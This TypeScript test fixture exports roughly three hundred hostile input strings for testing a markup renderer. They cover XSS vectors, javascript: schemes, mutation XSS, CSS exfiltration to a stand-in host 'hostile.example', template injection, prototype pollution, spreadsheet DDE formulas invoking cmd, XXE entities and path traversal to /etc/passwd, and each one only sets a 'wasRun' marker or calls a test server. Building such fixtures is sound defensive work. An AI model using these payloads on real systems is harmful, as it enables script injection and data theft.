/**
 * Three hundred texts that run, load, lead or ask somewhere in some program that shows text as markup: each would set
 * `wasRun`, open a dialog, or ask `http://hostile.example`, which a test replaces with a server of its own that listens.
 */
import type { Random } from '#core/themes/random';

export const hostileOrigin = 'http://hostile.example';
const run = 'globalThis.wasRun=1';
const quiet = 'globalThis.wasRun=1//';

const tagsThatLoad = [
  ...['img src=x onerror', 'svg onload', 'body onload', 'video src=x onerror', 'audio src=x onerror'],
  ...['iframe onload', 'object data=x onerror', 'embed src=x onerror', 'input autofocus onfocus'],
  ...['select autofocus onfocus', 'textarea autofocus onfocus', 'details open ontoggle', 'marquee onstart'],
  ...['link rel=stylesheet href=x onerror', 'style onload', 'script src=x onerror', 'image src=x onerror'],
  ...[
    'p style=animation-name:x onanimationstart',
    'div contenteditable autofocus onfocus',
    'div tabindex=0 onfocusin',
  ],
  ...[
    'img src=x onload',
    'video autoplay onloadstart',
    'video><source onerror',
    'table background=x onerror',
  ],
  ...[
    'svg><animate onbegin',
    'svg><set attributeName=x onbegin',
    'svg><image href=x onerror',
    'svg><use href=x onerror',
  ],
  ...['math><mtext><img src=x onerror', 'dialog open onclose', 'button popovertarget=x onbeforetoggle'],
  ...['div onpointerenter', 'div onwheel', 'div onscrollend', 'form onformdata'],
] as const;
const handlers = tagsThatLoad.map((tag) => `<${tag}=${run}>`);

const closings = [
  ...[
    '"',
    "'",
    '`',
    '</title>',
    '</style>',
    '</textarea>',
    '</noscript>',
    '</template>',
    '</xmp>',
    '-->',
    '--!>',
  ],
  ...[
    ']]>',
    '</script>',
    '</svg>',
    '</desc>',
    '</foreignObject>',
    '</text>',
    '?>',
    '%>',
    '*/',
    '\\";',
    '\\u0022',
  ],
] as const;
const escapes = closings.map((closing) => `${closing}<img src=x onerror=${run}>`);

const schemes = [
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', 'java\r\nscript:', '\u0001javascript:'],
  ...[
    ' javascript:',
    '\u00a0javascript:',
    'javascript\t:',
    'javascript&colon;',
    '&#106;avascript:',
    '&#x6A;avascript:',
  ],
  ...[
    'javascript&#58;',
    'java&Tab;script:',
    'java&NewLine;script:',
    '\\x6aavascript:',
    'vbscript:',
    'livescript:',
  ],
  ...[
    'data:text/html,<script>',
    'data:text/html;base64,PHNjcmlwdD4=',
    'data:image/svg+xml,<svg onload=',
    'blob:null/',
  ],
  ...[
    'view-source:javascript:',
    'feed:javascript:',
    'jar:javascript:',
    'file:///etc/passwd#',
    'ms-msdt:/id PCWDiagnostic ',
  ],
  ...[
    'search-ms:query=',
    'tapki://app/../../',
    '\\\\hostile.example\\share\\',
    '//hostile.example/',
    'chrome://settings/',
  ],
] as const;
const addresses = schemes.flatMap((scheme) => [
  `[click](${scheme}${run})`,
  `<a href="${scheme}${run}">click</a>`,
]);

const drawings = [
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${hostileOrigin}/a.js"/></svg>`,
  `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${run}"><rect width="99" height="99"/></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.wasRun=1&lt;/script&gt;"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
  `<svg><animate xlink:href="#a" attributeName="href" values="javascript:${run}"/><a id="a"><text>x</text></a></svg>`,
  `<svg><image href="${hostileOrigin}/i.png"/></svg>`,
  `<svg><feImage href="${hostileOrigin}/f.svg"/></svg>`,
  `<svg><style>@import '${hostileOrigin}/s.css';</style></svg>`,
  `<svg><text font-family="x" style="background:url(${hostileOrigin}/t)">x</text></svg>`,
  `<svg/onload=${run}>`,
  `<svg><handler xmlns="http://www.w3.org/2001/xml-events" type="text/javascript" event="load">${run}</handler></svg>`,
] as const;

const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=${run}>"></style>`,
  `<svg><desc><template><img src=x onerror=${run}></template></desc></svg>`,
  `<select><noembed></select><img src=x onerror=${run}></noembed>`,
  `<table><td background="javascript:${run}"><caption><svg onload=${run}>`,
  `<xmp><p title="</xmp><svg/onload=${run}>">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
  `<img alt="\`\`onerror=${run}" src=x>`,
  `<a href="x"\u000bonmouseover="${run}">`,
  `<b <script>${run}</script>0`,
  `<<script>${quiet}<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src="x\u0000" onerror="${run}">`,
  `\u003cimg src=x onerror=${run}\u003e`,
  `&lt;img src=x onerror=${run}&gt;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `＜script＞${run}＜/script＞`,
] as const;

const loads = [
  ...[
    'img src',
    'iframe src',
    'frame src',
    'embed src',
    'video src',
    'audio src',
    'source src',
    'track src',
    'input type=image src',
  ],
  ...[
    'link rel=stylesheet href',
    'link rel=prefetch href',
    'link rel=dns-prefetch href',
    'link rel=preconnect href',
    'link rel=icon href',
  ],
  ...[
    'base href',
    'object data',
    'body background',
    'video poster',
    'script src',
    'img srcset',
    'form action',
    'portal src',
    'a ping',
  ],
  ...['meta http-equiv=refresh content=0;url', 'link rel=modulepreload href', 'link rel=manifest href'],
].map((place) => `<${place}="${hostileOrigin}/${place.split(' ')[0]}">`);

const styles = [
  `</style><style>*{background:url(${hostileOrigin}/c)}`,
  `<style>@import url(${hostileOrigin}/i.css);</style>`,
  `<style>@font-face{font-family:x;src:url(${hostileOrigin}/f)}*{font-family:x}</style>`,
  `<div style="background-image:image-set('${hostileOrigin}/s' 1x)">`,
  `<div style="list-style:url(${hostileOrigin}/l)">`,
  `<div style="cursor:url(${hostileOrigin}/u),auto">`,
  `<div style="width:expression(${run})">`,
  `<div style="behavior:url(#default#time2)">`,
  `<div style="-moz-binding:url(${hostileOrigin}/x.xml#x)">`,
  `x}*{background:url(${hostileOrigin}/b)}y{`,
  `;background:url(${hostileOrigin}/d);`,
  `\\3c style\\3e *{content:url(${hostileOrigin}/e)}`,
  `<input value=a><style>input[value^=a]{background:url(${hostileOrigin}/k)}</style>`,
] as const;

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{${run}}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `<% ${run} %>`,
  `{% include "${hostileOrigin}" %}`,
  `[[${run}]]`,
  `@{${run}}`,
  `*{${run}}`,
  `{{=${run}}}`,
  `{{{${run}}}}`,
  `$('<img src=x onerror=${run}>')`,
  `__proto__[wasRun]=1`,
  `{"__proto__":{"wasRun":1}}`,
  `constructor[prototype][wasRun]=1`,
  `{"toString":"x","constructor":{"prototype":{"wasRun":1}}}`,
  `%s%n%x%d`,
  `{{#with "s" as |x|}}{{x.sub.constructor "${run}"}}{{/with}}`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `<slot onslotchange=${run}><b slot></b></slot>`,
  `<x-a is=script>${run}</x-a>`,
  `<object type="text/x-scriptlet" data="${hostileOrigin}/sc"></object>`,
  `<isindex action="javascript:${run}" type=image>`,
  `<a href="#" download="../../evil.exe" target=_blank>x</a>`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
] as const;

const signs = [
  '\u202egnp.exe\u202c',
  '\u2066\u202e<script>\u2069',
  '\u200f=1+1\u200e',
  '\u200b<\u200bscript>',
  'e\u0301\u0301\u0301'.repeat(40),
  '\ufeff<img src=x onerror=globalThis.wasRun=1>',
  '\u2028globalThis.wasRun=1\u2029',
  '\ud800<script>',
  '\udc00',
  '\ufff9a\ufffab\ufffb',
  '\u0000<script>globalThis.wasRun=1</script>',
  '\u001b]0;title\u0007\u001b[31m',
  'ﷺ'.repeat(50),
  '\u{e0041}\u{e007f}',
  '\u061c\u2067',
] as const;

const markdown = [
  `![x](${hostileOrigin}/m.png)`,
  `![x][r]\n\n[r]: ${hostileOrigin}/r.png`,
  `[r]: <javascript:${run}>\n\n[r]`,
  `<javascript:${run}>`,
  `[a](<javascript:${run}>)`,
  `[a](javascript:${run} "t")`,
  `[\n](javascript:${run})`,
  `[a](\\javascript:${run})`,
  `\`\`\`\n</code></pre><img src=x onerror=${run}>\n\`\`\``,
  `<details><summary>x</summary>\n\n<img src=x onerror=${run}>\n</details>`,
  `| a |\n|---|\n| <img src=x onerror=${run}> |`,
  `# <img src=x onerror=${run}>`,
  `> <svg onload=${run}>`,
  `- [ ] <img src=x onerror=${run}>`,
  `[^1]\n\n[^1]: <img src=x onerror=${run}>`,
  `$$\\href{javascript:${run}}{x}$$`,
  `<!-- --><img src=x onerror=${run}>`,
  `![[${hostileOrigin}/embed]]`,
  `[[javascript:${run}]]`,
  `---\ntitle: "<img src=x onerror=${run}>"\n---`,
  `*[x]: <img src=x onerror=${run}>`,
  `www.hostile.example/<script>${run}</script>`,
] as const;

const formats = [
  `%%{init: {"securityLevel":"loose","themeCSS":"*{background:url(${hostileOrigin}/mm)}"}}%%`,
  `click a "javascript:${run}" "x"`,
  `click a call ${run}()`,
  `section x\n  y: 5: <img src=x onerror=${run}>`,
  `journey\n  title <script>${run}</script>`,
  `end\nsubgraph x[<img src=x onerror=${run}>]`,
  `x: 3: a, b\n  %% comment`,
  `"},{"type":"link","url":"${hostileOrigin}/canvas","id":"x"}`,
  `","type":"file","file":"../../etc/passwd`,
  `=HYPERLINK("${hostileOrigin}/csv","x")`,
  `=WEBSERVICE("${hostileOrigin}/ws")`,
  `=IMPORTXML("${hostileOrigin}/ix","//a")`,
  `=IMAGE("${hostileOrigin}/im")`,
  `=cmd|'/C calc'!A0`,
  `@SUM(1+1)*cmd|'/C calc'!A0`,
  `+cmd|'/C calc'!A0`,
  `-2+3+cmd|'/C calc'!A0`,
  `\t=1+1`,
  `x\r\nATTACH:${hostileOrigin}/ics`,
  `x\nEND:VEVENT\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH:file:///bin/sh`,
  `x\r\nURL:javascript:${run}`,
  `x;ALTREP="${hostileOrigin}/alt":y`,
  `]]><script>${run}</script>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "${hostileOrigin}/dtd">]>&e;`,
  `<?xml-stylesheet href="${hostileOrigin}/xsl"?>`,
  `<xi:include href="${hostileOrigin}/xi" xmlns:xi="http://www.w3.org/2001/XInclude"/>`,
  `<w:instrText>INCLUDEPICTURE "${hostileOrigin}/w"</w:instrText>`,
  `{ INCLUDETEXT "${hostileOrigin}/t" }`,
  `DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"`,
  `<a:hlinkClick r:id="rId1" action="ppaction://program"/>`,
  `<Relationship TargetMode="External" Target="${hostileOrigin}/rel"/>`,
  `_x003C_script_x003E_`,
  `) /OpenAction << /S /JavaScript /JS (${run}) >> (`,
  `endobj 9 0 obj << /S /URI /URI (${hostileOrigin}/pdf) >>`,
  `../../../../../../etc/passwd`,
  `CON`,
  `x.html\u0000.png`,
  `a/b\\c:d*e?f"g<h>i|j`,
] as const;

export const hostileVectors: readonly string[] = [
  `<script>${run}</script>`,
  `<script>alert(1);${run}</script>`,
  `<script src="${hostileOrigin}/s.js"></script>`,
  `<script type=module>import "${hostileOrigin}/m.js"</script>`,
  `<img src=x onerror=alert(1)>`,
  `<iframe src="javascript:parent.wasRun=1"></iframe>`,
  `<iframe srcdoc="<script>parent.wasRun=1</script>"></iframe>`,
  ...handlers,
  ...escapes,
  ...addresses,
  ...drawings,
  ...mutations,
  ...loads,
  ...styles,
  ...templates,
  ...signs,
  ...markdown,
  ...formats,
];

/** `count` of them in an order of chance, each once; all where there are no more. */
export function someVectors(count: number, random: Random): readonly string[] {
  const all = [...hostileVectors];
  for (let at = all.length - 1; at > 0; at -= 1) {
    const other = Math.floor(random() * (at + 1));
    [all[at], all[other]] = [all[other] ?? '', all[at] ?? ''];
  }
  return all.slice(0, count);
}
